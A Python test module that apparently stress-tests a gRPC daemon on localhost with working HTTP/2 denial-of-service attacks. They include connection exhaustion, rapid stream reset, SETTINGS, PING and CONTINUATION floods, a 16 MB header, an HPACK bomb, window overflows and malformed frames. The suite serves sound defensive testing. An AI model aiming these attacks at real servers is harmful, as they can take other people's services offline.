"""What a peer can do to connections: many of them, and frames that no client library sends."""

import http.client
import socket
import threading
import time

import http2
import wire
from attack import HOLD_SECONDS, attack, hold, run_threads

FLOOD = 64 << 10
GRPC = 'gRPC 1.51 takes in all of it before anybody is asked: docs/security.md, "What is not"'


def idle(node, count, first=b""):
    def act():
        for _ in range(count):
            try:
                connection = http2.Connection(node, preface=False)
                connection.socket.settimeout(0.2)
                connection.send(first)
            except OSError:
                pass  # refused: that is an answer too
        hold()
        return []

    return act


@attack()
def idle_connections(node):
    """1,500 TCP connections that say nothing, to a daemon of 1,024 descriptors"""
    return idle(node, 1500)


@attack()
def idle_connections_with_a_preface(node):
    """1,500 TCP connections that say the preface of HTTP/2 and no more"""
    return idle(node, 1500, first=http2.PREFACE + http2.settings())


@attack()
def idle_connections_of_half_a_preface(node):
    """1,500 TCP connections that say half the preface of HTTP/2"""
    return idle(node, 1500, first=http2.PREFACE[:10])


@attack()
def idle_connections_to_the_metrics_port(node):
    """1,500 connections to the port for scrapes that send half a request"""

    def act():
        end = time.monotonic() + HOLD_SECONDS
        for _ in range(1500):
            if time.monotonic() > end:
                break
            try:
                connection = socket.create_connection(("127.0.0.1", node.daemon.metrics_port), 0.2)
                node.exits.callback(connection.close)
                connection.send(b"GET /metrics HTTP/1.1\r\nHost: x\r\nX-A: ")
            except OSError:
                pass
        hold()
        return []

    return act


@attack()
def connections_that_come_and_go(node):
    """New TCP connections as fast as two threads can make them"""

    def act():
        end = time.monotonic() + 1

        def connect():
            while time.monotonic() < end:
                try:
                    socket.create_connection(("127.0.0.1", node.daemon.tcp_port), 1).close()
                except OSError:
                    time.sleep(0.01)

        run_threads([threading.Thread(target=connect) for _ in range(2)])
        return []

    return act


def flood(node, data, connections=4, prepare=b"", seconds=HOLD_SECONDS, most=1 << 40, **first_settings):
    """Sends `prepare` once and then `data` again and again on each connection, and reads nothing."""

    def act():
        opened = [http2.Connection(node, **first_settings) for i in range(connections)]

        def send(connection):
            connection.send(prepare)
            connection.send_for(seconds, data, most)

        run_threads([threading.Thread(target=send, args=(connection,)) for connection in opened])
        return []

    return act


@attack(beyond=GRPC)
def streams_reset_at_once(node):
    """Calls that are reset as soon as they are made (rapid reset), on four connections"""

    def act():
        opened = [http2.Connection(node) for i in range(4)]

        def send(connection):
            end, stream = time.monotonic() + HOLD_SECONDS, 1
            body = http2.grpc_message(b"")
            while time.monotonic() < end:
                frames = []
                for stream in range(stream, stream + 200, 2):
                    frames += [http2.call(stream, "ListModels", body),
                               http2.frame(http2.RST_STREAM, 0, stream, b"\0\0\0\x08")]
                stream += 2
                if not connection.send(b"".join(frames)):
                    return

        run_threads([threading.Thread(target=send, args=(connection,)) for connection in opened])
        return []

    return act


@attack(memory=True)
def settings_flood(node):
    """SETTINGS without end whose acknowledgements are not read, on four connections"""
    return flood(node, http2.settings(initial_window_size=65535) * (FLOOD // 15), seconds=1)


@attack(memory=True)
def ping_flood(node):
    """PING without end whose answers are not read, on four connections"""
    return flood(node, http2.frame(http2.PING, payload=bytes(8)) * (FLOOD // 17))


@attack(memory=True, beyond=GRPC)
def continuation_flood(node):
    """HEADERS without an end, followed by CONTINUATION frames without end, on four connections"""
    more = http2.frame(http2.CONTINUATION, 0, 1, http2.literal("x-filler", "v" * 16_000))
    return flood(node, more * 4, prepare=http2.frame(http2.HEADERS, 0, 1, http2.request_headers("ListModels")))


@attack(memory=True)
def header_of_16_megabytes(node):
    """One header field of 16 MB in CONTINUATION frames, in fifty calls"""
    field = http2.literal("x-filler", "v" * (16 << 20))
    pieces = [field[i:i + http2.FRAME_BYTES] for i in range(0, len(field), http2.FRAME_BYTES)]

    def act():
        end = time.monotonic() + HOLD_SECONDS
        for _ in range(50):
            if time.monotonic() > end:
                break
            connection = http2.Connection(node)
            connection.socket.settimeout(1)
            frames = [http2.frame(http2.HEADERS, http2.END_STREAM, 1, http2.request_headers("ListModels"))]
            frames += [http2.frame(http2.CONTINUATION, http2.END_HEADERS if piece is pieces[-1] else 0, 1, piece)
                       for piece in pieces]
            connection.send(b"".join(frames))
        return []

    return act


@attack(memory=True)
def small_frames_of_large_headers(node):
    """Frames of 16 KiB that name a field of 4,000 bytes 15,000 times (an HPACK bomb), on four connections"""

    def act():
        opened = [http2.Connection(node) for i in range(4)]
        for connection in opened:
            first = http2.request_headers("ListModels") + http2.literal("x-filler", "v" * 3900, indexed=True)
            connection.send(http2.frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, 1, first))
            bomb = http2.request_headers("ListModels") + b"\xbe" * 15_000
            for stream in range(3, 900, 2):
                if not connection.send(http2.frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, stream, bomb)):
                    break
        hold(2)
        return []

    return act


@attack()
def empty_data_frames(node):
    """DATA frames without a byte, without end, in an open call, on four connections"""
    return flood(node, http2.frame(http2.DATA, 0, 1) * (FLOOD // 9), prepare=http2.call(1, "LoadModel"))


@attack()
def priority_flood(node):
    """PRIORITY frames for ever new streams, on four connections"""
    frames = [http2.frame(http2.PRIORITY, 0, 2 * i + 1, b"\0\0\0\0\xff") for i in range(FLOOD // 14)]
    return flood(node, b"".join(frames), seconds=1)


@attack()
def windows_that_overflow(node):
    """WINDOW_UPDATE of 2^31-1 again and again, and initial windows of 2^32-1"""
    update = http2.frame(http2.WINDOW_UPDATE, 0, 0, b"\x7f\xff\xff\xff")
    return flood(node, update * 1000 + http2.settings(initial_window_size=2**32 - 1), seconds=1)


@attack()
def tables_that_change_size(node):
    """SETTINGS that change the size of the header table and the windows of 900 open streams, without end"""
    opens = b"".join(http2.call(2 * i + 1, "Load") for i in range(900))
    data = (http2.settings(header_table_size=2**32 - 1, initial_window_size=0) +
            http2.settings(header_table_size=0, initial_window_size=2**31 - 1))
    return flood(node, data * 500, prepare=opens)


@attack()
def frames_that_lie(node):
    """Frames of wrong lengths, kinds and streams, garbage, HTTP/1.1 and TLS in place of HTTP/2"""
    pieces = [b"\xff\xff\xff\x00\x00\x00\x00\x00\x01" + bytes(1 << 20),
              http2.frame(http2.HEADERS, 4, 0, b"\xff" * 1000),
              http2.frame(http2.HEADERS, 0x2C, 1, b"\xff" * 10),
              http2.frame(http2.DATA, 8, 1, b"\xff"),
              http2.frame(http2.PUSH_PROMISE, 4, 1, bytes(100)),
              http2.frame(http2.GOAWAY, 0, 0, bytes(8)),
              http2.frame(0xEE, 0xFF, 2**31 - 1, bytes(16384)),
              http2.frame(http2.RST_STREAM, 0, 0, b""),
              http2.frame(http2.HEADERS, 5, 1, b"\x3f" + b"\xff" * 50),
              http2.frame(http2.CONTINUATION, 0, 7, b"x")]

    def act():
        for i in range(200):
            connection = http2.Connection(node)
            connection.send(pieces[i % len(pieces)] + http2.garbage(10_000))
            connection.socket.close()
            for first in (b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", b"\x16\x03\x01\x02\x00\x01" + http2.garbage(600),
                          http2.garbage(100_000)):
                connection = http2.Connection(node, preface=False)
                connection.send(first)
                connection.socket.close()
        return []

    return act


@attack()
def health_watches_by_the_thousand(node):
    """5,400 streams of grpc.health.v1 Watch on six connections that are not read"""

    def act():
        opened = [http2.Connection(node, initial_window_size=0) for _ in range(6)]
        for connection in opened:
            connection.send(b"".join(
                http2.call(2 * i + 1, "x", http2.grpc_message(b""), **{":path": "/grpc.health.v1.Health/Watch"})
                for i in range(900)))
        hold()
        return []

    return act


@attack()
def requests_to_the_metrics_port(node):
    """Scrapes with headers and paths of 100 KB, as many as come through in a second"""

    def act():
        end = time.monotonic() + 1

        def scrape():
            while time.monotonic() < end:
                connection = http.client.HTTPConnection("127.0.0.1", node.daemon.metrics_port, timeout=2)
                try:
                    connection.request("GET", "/metrics" + "x" * 100_000, headers={"X-A": "v" * 100_000})
                    connection.getresponse().read()
                    connection.close()
                    connection.request("GET", "/metrics")
                    connection.getresponse().read()
                except (OSError, http.client.HTTPException):
                    pass
                finally:
                    connection.close()

        run_threads([threading.Thread(target=scrape) for _ in range(4)])
        return []

    return act


@attack("OK", "LOAD_NOT_FOUND")
def a_log_reader_that_stalls(node):
    """Nobody reads the daemon's log while 900 calls are made that it logs"""
    node.exits.callback(node.daemon.stall_log, False)

    def act():
        node.daemon.stall_log(True)
        client = node.client()
        requests = [wire.message("CancelLoadRequest", load=f"no-{i}-" + "x" * 100) for i in range(900)]
        outcomes = client.call_all("CancelLoad", requests, HOLD_SECONDS)
        hold(1)
        node.daemon.stall_log(False)
        return outcomes

    return act
